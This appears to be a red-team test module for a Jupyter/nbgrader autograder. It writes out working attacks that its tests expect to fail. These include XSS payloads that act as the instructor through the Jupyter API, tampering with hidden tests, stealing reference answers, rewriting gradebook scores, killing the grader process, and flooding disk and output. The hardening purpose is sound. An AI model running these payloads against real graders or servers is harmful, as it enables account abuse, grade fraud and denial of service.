"""Attacks on the grader itself, as a red team ran them: none may gain a point or harm anyone else.

Where cheats.py tries to pass wrong answers, these go after the grading
machinery: script in what the instructor's browser renders, tampering with
the hidden tests' stand-ins, ways around the in-kernel guard, floods of disk,
output and replies, and reading the hidden tests back through the feedback.
Each is tried on a submission with wrong answers, like the cheats, and the
tests also check what each attack aims at (see tests/test_attacks.py).
"""
import base64

import nbformat
from nbgrader import utils as nbutils

from .cheats import FIND_THE_PROBE, Cheat

MARK = "pwned"  # what every script payload leaves behind, in the page and in the URLs it requests


def payload(where):
    """JavaScript that marks the page and calls the Jupyter server as the instructor, if it ever runs."""
    return (f"window.__{MARK}=(window.__{MARK}||[]).concat('{where}');"
            f"fetch('/api/contents/{MARK}-{where}.txt',{{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},"
            "body:JSON.stringify({type:'file',format:'text',content:'x'})});")


def html_payloads(where):
    script = payload(where)
    return (f'<img src="x-{MARK}" onerror="{script}">'
            f"<script>{script}</script>"
            f'<svg onload="{script}"></svg>')


TINY_PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6300010000050001fd2f7ba20000000049454e44ae426082")).decode()


def _script_everywhere(nb):
    """Script payloads in every place a student controls that a page might render."""
    first_answer = next(index for index, cell in enumerate(nb.cells) if nbutils.is_solution(cell))
    markdown = nbformat.v4.new_markdown_cell(
        f"Notes {html_payloads('markdown')}\n\n[read me](javascript:{payload('markdown-link')})\n\n"
        f"$\\href{{javascript:{payload('mathjax')}}}{{x}}$")
    markdown.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload("attachment")}"/>'.encode()).decode()}}
    raw = nbformat.v4.new_raw_cell(f"<script>{payload('raw-cell')}</script>")
    raw.metadata["format"] = "text/html"
    raw.metadata["raw_mimetype"] = "text/html"
    displays = nbformat.v4.new_code_cell(f'''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML({html_payloads("html-output")!r}))
display(Javascript({payload("javascript-output")!r}))
display(Markdown({html_payloads("markdown-output")!r}))
display({{"image/svg+xml": {html_payloads("svg-output")!r}, "text/plain": "a picture"}}, raw=True)
display({{"image/png": {TINY_PNG!r}}}, metadata={{"image/png": {{"width": {"1 onerror=" + payload("image-metadata")!r}}}}}, raw=True)
display({{"image/png": {'"><script>' + payload("image-data") + '</script>'!r}}}, raw=True)
display({{"text/html": {html_payloads("isolated-html")!r}}}, metadata={{"text/html": {{"isolated": True}}}}, raw=True)
import ipywidgets
display(ipywidgets.HTML({html_payloads("widget")!r}))
''')
    displays.metadata["tags"] = [f'x" onmouseover="window.__{MARK}=[\'cell-tag\']']  # nbformat forbids commas in tags
    error = nbformat.v4.new_code_cell(f"raise ValueError({html_payloads('error')!r})")
    nb.cells[first_answer:first_answer] = [markdown, raw, displays, error]
    for cell in nb.cells:  # answers that show HTML whenever they are called, hidden tests included
        if nbutils.is_solution(cell):
            cell.source += f'''

from IPython.display import HTML as _HTML, display as _display
import functools as _functools
def _shouting(function):
    @_functools.wraps(function)
    def wrapper(*args, **kwargs):
        _display(_HTML({html_payloads("called")!r}))
        raise ValueError({html_payloads("verdict")!r})
    return wrapper
for _name, _value in list(globals().items()):
    if callable(_value) and getattr(_value, "__module__", None) == "__main__" and not _name.startswith("_"):
        globals()[_name] = _shouting(_value)
'''
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                        "model_module_version": "2.0.0", "state": {"value": html_payloads("widget-state")}}},
        "version_major": 2, "version_minor": 0}}
    return nb


def _print_in_many_cells(nb):
    """A hundred extra cells before the first test (whose outputs are kept), each printing 1 MB (under a
    cell's cap) in one go, and then 3 MB in small pieces (over it): 400 MB if nothing cut them."""
    first_test = next(index for index, cell in enumerate(nb.cells) if nbutils.is_grade(cell))
    flood = "print('x' * 1_000_000)\nfor _ in range(3000):\n    print('y' * 1000)"
    nb.cells[first_test:first_test] = [nbformat.v4.new_code_cell(flood) for _ in range(100)]
    return nb


SPY_ON_REQUESTS = FIND_THE_PROBE + '''
try:
    _stream = _probe_stream()
    if not hasattr(_stream._recv_callback, "seen"):
        def _spy(parts, _real=_stream._recv_callback):
            _spy.seen.append(bytes(parts[2]).decode(errors="replace"))
            return _real(parts)
        _spy.seen = []
        _stream.on_recv(_spy, copy=False)
    print("LEAKED-REQUESTS:", _stream._recv_callback.seen)
except Exception as _error:
    print("cheat:", _error)
'''

TAMPER_WITH_STAND_INS = '''
import builtins as _builtins
if not hasattr(_builtins.compile, "tampered"):
    _real_compile, _real_exec = _builtins.compile, _builtins.exec
    def _rewrite(source):
        if isinstance(source, str) and "stand" in source.lower():
            source = (source.replace("AT_INFERENCE = 0.5", "AT_INFERENCE = 1.0")
                      .replace("self.setups]", "0]").replace("param += 0.01 * self.steps", "pass")
                      .replace("return self.decisions[", "return True or self.decisions["))
        return source
    def _compile(source, *args, **kwargs):
        return _real_compile(_rewrite(source), *args, **kwargs)
    def _exec(source, *args, **kwargs):
        return _real_exec(_rewrite(source), *args, **kwargs)
    _compile.tampered = True
    _builtins.compile, _builtins.exec = _compile, _exec
'''

BORROW_THE_JUDGES_OBJECTS = FIND_THE_PROBE + '''
def _judges_objects():
    """Whatever the grader handed to this kernel and still keeps, found through its request handler."""
    try:
        for cell in _probe_stream()._recv_callback.__closure__ or ():
            found = getattr(cell.cell_contents, "_objects", None)
            if isinstance(found, dict):
                return list(found.values())
    except Exception:
        pass
    return []

def _borrowed(names):
    for obj in _judges_objects():
        candidates = [obj] + [getattr(obj, n) for n in dir(obj) if not n.startswith("_")] if hasattr(obj, "__dict__") else [obj]
        for candidate in candidates:
            if getattr(candidate, "__name__", type(candidate).__name__) in names and callable(candidate):
                return candidate
    return None

if "Trainer" in globals() and not hasattr(Trainer, "borrowing"):
    class Trainer(Trainer):
        borrowing = True
        def validate(self, *args, **kwargs):
            helper = _borrowed({"Validator", "ScriptedValidator", "validate"})
            if helper is not None:
                try:
                    return helper(self)(*args, **kwargs)
                except TypeError:
                    return helper(*args, **kwargs)
            return super().validate(*args, **kwargs)
if "SGD" in globals() and not hasattr(SGD, "borrowing"):
    class SGD(SGD):
        borrowing = True
        def step(self):
            helper = _borrowed({"TinySGD", "SGD", "Nudge"})
            if helper is not None and helper is not type(self):
                twin = helper(self.lr) if "SGD" in helper.__name__ else helper()
                twin.net = self.net
                return twin.step()
            return super().step()
'''

READ_A_MODULE_PUBLISHED_LATER = '''
try:
    import dlscratch as _dlscratch, glob as _glob, os as _os
    _repo = _os.path.dirname(_os.path.dirname(_dlscratch.__file__))
    _places = ["framework.py", _os.path.join(_os.path.dirname(_dlscratch.__file__), "framework.py"),
               _os.path.join(_repo, "autograder", "published", "framework.py"),
               *_glob.glob(_os.path.join(_repo, "*", "*", "framework.py"))]
    _code = ""
    for _place in _places:
        try:
            _code = open(_place).read()
            break
        except OSError:
            pass
    _found = {}
    exec(_code, _found)
    globals().update({_k: _v for _k, _v in _found.items() if isinstance(_v, type)})
    print("cheat: took", len(_code), "characters of answers from the framework")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
'''

SPAWN_THROUGH_MULTIPROCESSING = '''
try:
    import multiprocessing.util as _mputil, os as _os, sys as _sys, time as _time
    _steal = ("import importlib, pathlib; m = importlib.import_module('autograder.reference.derivatives'); "
              "pathlib.Path('stolen.py').write_text(pathlib.Path(m.__file__).read_text())")
    _mputil.spawnv_passfds(_os.fsencode(_sys.executable), [_sys.executable, "-c", _steal], [])
    _time.sleep(3)
    exec(open("stolen.py").read(), globals())
    print("cheat: spawned a process and read the reference")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
'''

OPEN_THE_GRADEBOOK = '''
try:
    import sqlite3 as _sqlite3
    _db = _sqlite3.connect("__OUT__/gradebook.db")
    _db.execute("UPDATE grade SET manual_score = 1000")
    _db.commit()
    print("cheat: rewrote the gradebook")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
try:
    import ctypes as _ctypes
    _sqlite = _ctypes.CDLL("libsqlite3.so.0")
    _handle = _ctypes.c_void_p()
    _sqlite.sqlite3_open(b"__OUT__/gradebook.db", _ctypes.byref(_handle))
    _sqlite.sqlite3_exec(_handle, b"UPDATE grade SET manual_score = 1000", None, None, None)
    print("cheat: rewrote the gradebook through ctypes")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
'''

SIGNAL_THE_GRADER = '''
import os as _os, signal as _signal
try:
    _signal.pidfd_send_signal(_os.pidfd_open(_os.getppid()), _signal.SIGKILL)
    print("cheat: killed the grading worker through a pidfd")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
try:
    import ctypes as _ctypes
    _ctypes.CDLL(None).sigqueue(_os.getppid(), int(_signal.SIGKILL), 0)
    print("cheat: killed the grading worker through sigqueue")
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
'''

FIND_HIDDEN_PATHS = '''
import sys as _sys
_frames = []
try:
    _frames += list(_sys._current_frames().values())
except Exception as _error:
    print("cheat:", type(_error).__name__, _error)
_frames.append(_sys._getframe())
_hidden = set()
for _frame in _frames:
    while _frame is not None:
        for _value in list(_frame.f_locals.values()) + list(_frame.f_globals.values()):
            if isinstance(_value, dict) and "hidden_roots" in _value:
                _hidden.update(_value["hidden_roots"])
        _frame = _frame.f_back
print("FOUND-HIDDEN-PATHS:", len(_hidden))
'''

FILL_THE_DISK = '''
import os as _os
if not globals().get("_flooded"):
    _flooded, _written = True, 0
    for _folder in (_os.environ.get("HOME", "."), _os.environ.get("TMPDIR", "."), ".", "/tmp", "/dev/shm", "/"):
        for _index in range(64):      # at most 4 GB per folder, should every limit fail
            try:
                with open(f"{_folder}/fill-{_index}", "wb") as _file:
                    _file.write(b"\\0" * 2**26)
                _written += 2**26
            except Exception:
                break
    print("DISK-FLOOD-WROTE:", _written)
'''

RETURN_HUGE_ARRAYS = '''
import numpy as _np
def _huge(*args, **kwargs):
    return _np.zeros(40_000_000)      # 320 MB
for _name, _value in list(globals().items()):
    if callable(_value) and getattr(_value, "__module__", None) == "__main__" and not _name.startswith("_") \\
            and not isinstance(_value, type):
        globals()[_name] = _huge
'''

FLOOD_THE_REPLY = FIND_THE_PROBE + '''
try:
    _stream = _probe_stream()
    if not hasattr(_stream._recv_callback, "flooded"):
        def _flood(parts, _real=_stream._recv_callback, _socket=_stream.socket):
            if not _flood.flooded:
                _flood.flooded = True
                _socket.send_multipart([parts[0], parts[1], b"0" * 150_000_000])
                return
            return _real(parts)
        _flood.flooded = False
        _stream.on_recv(_flood, copy=False)
except Exception as _error:
    print("cheat:", _error)
'''

CLAIM_A_HUGE_LENGTH = '''
class _Endless:
    def __len__(self):
        return 10 ** 15
    def __getitem__(self, index):
        return 0.0
    def __iter__(self):
        while True:
            yield 0.0
def _endless(*args, **kwargs):
    return _Endless()
for _name, _value in list(globals().items()):
    if callable(_value) and getattr(_value, "__module__", None) == "__main__" and not _name.startswith("_") \\
            and not isinstance(_value, type):
        globals()[_name] = _endless
'''

ALL = [
    Cheat("script in every place a page renders", transform=_script_everywhere, notebooks=("01_derivatives",)),
    Cheat("spy on the hidden tests' requests and print them", SPY_ON_REQUESTS,
          notebooks=("01_derivatives", "06_building_blocks")),
    Cheat("tamper with the stand-ins", TAMPER_WITH_STAND_INS, notebooks=("06_building_blocks",)),
    Cheat("borrow the judge's objects", BORROW_THE_JUDGES_OBJECTS, notebooks=("06_building_blocks",)),
    Cheat("read a module that a later notebook publishes", READ_A_MODULE_PUBLISHED_LATER,
          notebooks=("06_building_blocks",)),
    Cheat("spawn a process through multiprocessing", SPAWN_THROUGH_MULTIPROCESSING, notebooks=("01_derivatives",)),
    Cheat("open the gradebook with sqlite", OPEN_THE_GRADEBOOK, notebooks=("01_derivatives",)),
    Cheat("signal the grader through a pidfd", SIGNAL_THE_GRADER, notebooks=("01_derivatives",)),
    Cheat("find hidden paths in the interpreter's frames", FIND_HIDDEN_PATHS, notebooks=("01_derivatives",)),
    Cheat("fill the disk", FILL_THE_DISK, notebooks=("01_derivatives",), needs_bwrap=True),
    Cheat("print without end in many cells", transform=_print_in_many_cells, notebooks=("01_derivatives",)),
    Cheat("return huge arrays", RETURN_HUGE_ARRAYS, notebooks=("01_derivatives",)),
    Cheat("flood the reply", FLOOD_THE_REPLY, notebooks=("01_derivatives",)),
    Cheat("claim a huge length", CLAIM_A_HUGE_LENGTH, notebooks=("01_derivatives",)),
]
